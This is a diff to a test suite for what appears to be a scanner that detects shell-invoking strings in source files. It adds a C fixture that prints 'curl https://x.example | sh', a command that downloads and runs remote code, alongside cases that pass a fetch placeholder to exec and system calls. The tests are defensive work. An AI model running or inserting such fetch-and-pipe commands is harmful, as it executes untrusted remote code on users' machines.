@@ -56,6 +56,10 @@ def test_a_string_for_a_shell_is_found(path: str) -> None:
         ("a.js", f'PATTERN.exec("{FETCH}")\n// execSync("{FETCH}")\n'),
         ("b.php", f'$db->exec("{FETCH}");\n// system("{FETCH}")\n'),
         ("main.go", f'fmt.Println("{FETCH}")\n'),
+        (
+            "a.c",
+            'if (!strcmp(v, "--check-system")) {\n  puts("curl https://x.example | sh");\n',
+        ),
         ("a.csproj", '<Project><Message Text="x" /></Project>\n'),
         ("README.md", f'os.system("{FETCH}")\n'),
         ("a.py", f'import os\n\nCMD = "{FETCH}"\nos.system(OTHER)\nprint(CMD)\n'),
